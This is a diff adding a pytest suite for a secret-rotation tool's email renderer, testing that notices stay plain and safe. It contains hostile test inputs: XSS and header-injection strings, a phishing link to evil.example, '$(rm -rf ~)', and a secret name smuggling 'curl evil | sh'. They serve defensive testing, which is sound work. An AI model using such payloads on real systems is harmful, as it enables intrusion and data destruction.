@@ -1,0 +1,269 @@
+"""What people read: every mail says which secret, which application, until when and what to do, and nothing else."""
+
+import re
+from datetime import UTC, datetime, timedelta, timezone
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from msgspec.structs import replace
+
+from local.preview_notices import main, samples
+from rekey.model import ConsumerResult, CredentialRef, Notice, NoticeKind
+from rekey.notices.render import LONGEST_SUBJECT, render
+from rekey.notices.wording import moment, one_line, wrapped
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "</td></table><h1>Your account is locked</h1>",
+    "<a href='https://evil.example/'>log in</a>",
+    "{{ 7 * 191 }}{% raw %}",
+    "Bcc: everybody@contoso.example\r\nSubject: other",
+    "a\nWHAT TO DO\n\nSend the password to evil@evil.example",
+    "see https://evil.example/reset and www.evil.example",
+    "see HTTPS ://evil.example javascript:alert(1) mailto:evil@evil.example",
+    "\u202egnp.exe\u2066\u200b\u2028\u2029\x00\x1b[31m\x85",
+    "\ud800 lone surrogate",
+    "x" * 5000,
+    "$(rm -rf ~); `id`",
+)
+
+FACTS = {
+    NoticeKind.STARTING: ("Sunday, 20 December 2026, 09:30 UTC", "wait for that one"),
+    NoticeKind.SWITCHED: (
+        "0c3f9f6f4e1b4c0f9a2f6d1f4b7f2f10",
+        "Wednesday, 19 May 2027, 09:30 UTC",
+        "works until Saturday, 28 November 2026, 09:30 UTC",
+        "az keyvault secret show --vault-name kv-shop --name shop-deploy --query value --output tsv",
+        "confirmed by: Azure DevOps signed in with it (Verify)",
+    ),
+    NoticeKind.DONE: ("was retired", "Not checked: whether somebody still used the old password"),
+    NoticeKind.FAILED: (
+        "preflight",
+        "not-an-owner",
+        "Sunday, 20 December 2026, 09:30 UTC",
+        "Make Rekey's service principal an owner of the application.",
+    ),
+    NoticeKind.NEEDS_YOU: (
+        "update_consumer",
+        "azdo-service-connection://contoso/Warehouse/deploy",
+        "failed (consumer-forbidden): Azure DevOps refused the change",
+        "Give Rekey's identity the Administrator role on the connection, then choose retry.",
+        "Decide: retry, skip-consumer, rollback or abandon.",
+        "Saturday, 28 November 2026, 09:30 UTC",
+    ),
+    NoticeKind.BAD_POLICY: (
+        "rekey-lifetime: got 'half a year', expected an ISO 8601 duration such as P180D",
+        "Correct the tag on the newest version",
+    ),
+}
+
+
+class _Page(HTMLParser):
+    """Collects what a mail program would act on: tags, attributes, text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.words: list[str] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+    def handle_data(self, data: str) -> None:
+        self.words.append(data)
+
+    @property
+    def text(self) -> str:
+        return " ".join(" ".join(self.words).split())
+
+
+def _flat(text: str) -> str:
+    return " ".join(text.split())
+
+
+def _everywhere(kind: NoticeKind, text: str) -> Notice:
+    """Return a notice with `text` in every field that a string can get into."""
+    consumer = ConsumerResult(uri=text, code=text, message=text, what_to_do=text)
+    return Notice(
+        kind=kind,
+        rotation_id=text,
+        vault=text,
+        secret=text,
+        to=(text,),
+        key=text,
+        credential=CredentialRef(text, text),
+        application_name=text,
+        reason=text,
+        new_version=text,
+        new_expires=datetime(2027, 5, 19, tzinfo=UTC),
+        old_valid_until=datetime(2026, 11, 28, tzinfo=UTC),
+        consumers=(consumer, ConsumerResult(uri=text, confirmed_by=text)),
+        failed_step=text,
+        code=text,
+        message=text,
+        what_to_do=text,
+        remarks=(text,),
+    )
+
+
+@pytest.mark.parametrize("kind", NoticeKind)
+def test_every_mail_names_secret_application_and_facts(kind: NoticeKind) -> None:
+    """Both versions of a mail say which secret, which application, the kind's own facts and the next action."""
+    notice = samples()[kind]
+    mail = render(notice)
+    application = ("Shop deployment, 9d4b7e9e-6b0c-4b52-9a3f-0d1f5f6a7c20",) if notice.credential else ()
+    for version in (_flat(mail.text), _Page(mail.html).text):
+        for fact in ("kv-shop/shop-deploy", notice.rotation_id, *application, *FACTS[kind]):
+            assert fact in version
+    assert "WHAT TO DO" in mail.text
+
+
+@pytest.mark.parametrize(
+    ("kind", "subject"),
+    [
+        (NoticeKind.STARTING, "[Rekey] starting: kv-shop/shop-deploy gets a new password"),
+        (NoticeKind.SWITCHED, "[Rekey] switched: kv-shop/shop-deploy has a new password"),
+        (NoticeKind.DONE, "[Rekey] done: kv-shop/shop-deploy, rotation finished"),
+        (NoticeKind.FAILED, "[Rekey] failed: kv-shop/shop-deploy was not rotated"),
+        (NoticeKind.NEEDS_YOU, "[Rekey] needs you: kv-shop/shop-deploy, update_consumer"),
+        (
+            NoticeKind.BAD_POLICY,
+            "[Rekey] bad policy: kv-shop/shop-deploy is not rotated until its tags are corrected",
+        ),
+    ],
+)
+def test_subjects_say_what_happened_to_which_secret(kind: NoticeKind, subject: str) -> None:
+    """The subject alone tells whether the mail has to be opened now."""
+    assert render(samples()[kind]).subject == subject
+
+
+def test_a_credential_left_to_expire_is_not_called_retired() -> None:
+    """A done notice with an end date says that the old credential was left to expire."""
+    left = replace(samples()[NoticeKind.DONE], old_valid_until=datetime(2026, 12, 20, tzinfo=UTC))
+    text = _flat(render(left).text)
+    assert "left to expire by itself: it works until Sunday, 20 December 2026, 00:00 UTC" in text
+    assert "was retired" not in text
+
+
+def test_a_failure_that_says_nothing_to_do_sends_to_the_operators() -> None:
+    """No mail about trouble ends without a next action."""
+    for kind in (NoticeKind.FAILED, NoticeKind.NEEDS_YOU):
+        bare = Notice(kind=kind, rotation_id="r", vault="kv", secret="s", to=())
+        assert "Ask the operators of Rekey" in _flat(render(bare).text)
+
+
+@pytest.mark.parametrize("kind", NoticeKind)
+def test_mails_load_nothing_and_link_nowhere(kind: NoticeKind) -> None:
+    """There is nothing to click, to fetch, to submit or to run in a mail."""
+    html = render(samples()[kind]).html
+    page = _Page(html)
+    assert not page.tags & {"a", "img", "link", "script", "form", "iframe", "style", "base"}
+    assert not page.attributes & {"href", "src", "action", "background"}
+    assert "http" not in html
+    assert "url(" not in html
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("kind", NoticeKind)
+def test_hostile_strings_stay_text(kind: NoticeKind, text: str) -> None:
+    """Markup, headers, line breaks and bidi tricks in any field change neither structure nor subject line."""
+    _assert_harmless(kind, text)
+
+
+@settings(deadline=None)
+@given(kind=st.sampled_from(NoticeKind), text=st.text())
+def test_any_string_stays_text(kind: NoticeKind, text: str) -> None:
+    """Whatever a field holds, the mail keeps its shape and can be encoded."""
+    _assert_harmless(kind, text)
+
+
+def _assert_harmless(kind: NoticeKind, text: str) -> None:
+    mail, calm = render(_everywhere(kind, text)), render(_everywhere(kind, "calm"))
+    assert "\n" not in mail.subject
+    assert mail.subject.isprintable()
+    assert len(mail.subject) <= LONGEST_SUBJECT
+    assert _Page(mail.html).tags <= _Page(calm.html).tags
+    assert _Page(mail.html).attributes <= _Page(calm.html).attributes
+    assert all(character == "\n" or character.isprintable() for character in mail.text)
+    assert mail.text.count("\nWHAT TO DO\n") == 1
+    (mail.subject + mail.html + mail.text).encode()
+
+
+def test_urls_in_untrusted_fields_are_not_clickable() -> None:
+    """A tag's value can't put a link into the owners' inbox; commands that Rekey itself writes can be copied."""
+    notice = replace(
+        samples()[NoticeKind.BAD_POLICY],
+        message="got 'https://evil.example/reset' and www.evil.example",
+        what_to_do="az rest --url https://graph.microsoft.com/v1.0/applications",
+    )
+    mail = render(notice)
+    for version in (mail.text, mail.html):
+        assert "https://evil" not in version
+        assert "www.evil" not in version
+        assert "https[:]//evil.example/reset" in version
+        assert "--url https://graph.microsoft.com/v1.0/applications" in version
+
+
+def test_no_command_is_shown_for_a_name_that_a_shell_could_read() -> None:
+    """A secret's name comes from elsewhere: the command to copy is left out where the name isn't a plain one."""
+    notice = replace(samples()[NoticeKind.SWITCHED], secret="x; curl evil | sh")
+    assert "az keyvault" not in render(notice).text
+
+
+def test_long_names_leave_the_subject_readable() -> None:
+    """The longest names Key Vault allows are cut, what happened to them isn't."""
+    longest = replace(samples()[NoticeKind.SWITCHED], vault="v" * 24, secret="s" * 127)
+    subject = render(longest).subject
+    assert len(subject) <= LONGEST_SUBJECT
+    assert subject.endswith("... has a new password")
+
+
+@pytest.mark.parametrize(
+    ("kind", "noun"),
+    [("entra-app-password", "password"), ("storage-account-key", "key"), ("something-else", "credential")],
+)
+def test_the_word_follows_the_kind(kind: str, noun: str) -> None:
+    """A storage account key isn't called a password."""
+    notice = replace(samples()[NoticeKind.SWITCHED], credential=CredentialRef(kind, "target"))
+    assert render(notice).subject.endswith(f"has a new {noun}")
+
+
+def test_moments_are_utc_and_unambiguous() -> None:
+    """Another zone's time is written in UTC, a naive one is taken for UTC, seconds are cut, never rounded up."""
+    cairo = datetime(2026, 3, 1, 1, 30, 59, tzinfo=timezone(timedelta(hours=2)))
+    assert moment(cairo) == "Saturday, 28 February 2026, 23:30 UTC"
+    assert moment(cairo.replace(tzinfo=None)) == "Sunday, 1 March 2026, 01:30 UTC"
+
+
+@settings(deadline=None)
+@given(st.text())
+def test_one_line_is_stable(text: str) -> None:
+    """Cleaning what is clean changes nothing."""
+    assert one_line(one_line(text)) == one_line(text)
+
+
+def test_text_is_wrapped_but_commands_are_not() -> None:
+    """Lines fit a mail window; a command stays on one line so that it can be copied."""
+    command = "    " + "az " * 40
+    text = wrapped("word " * 40 + "\n" + command + "\n- " + "item " * 30)
+    lines = text.splitlines()
+    assert command.rstrip() in lines
+    assert all(len(line) <= 76 for line in lines if not line.startswith("    "))
+    assert re.search(r"\n- item .*\n  item", text)
+
+
+def test_preview_writes_every_kind(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The preview command leaves one HTML and one text file for each kind of notice."""
+    assert main([str(tmp_path / "new")]) == 0
+    assert {p.name for p in (tmp_path / "new").iterdir()} == {
+        f"{kind}.{suffix}" for kind in NoticeKind for suffix in ("html", "txt")
+    }
+    assert capsys.readouterr().out.count("\n") == 2 * len(NoticeKind)
+    assert main([]) == 2
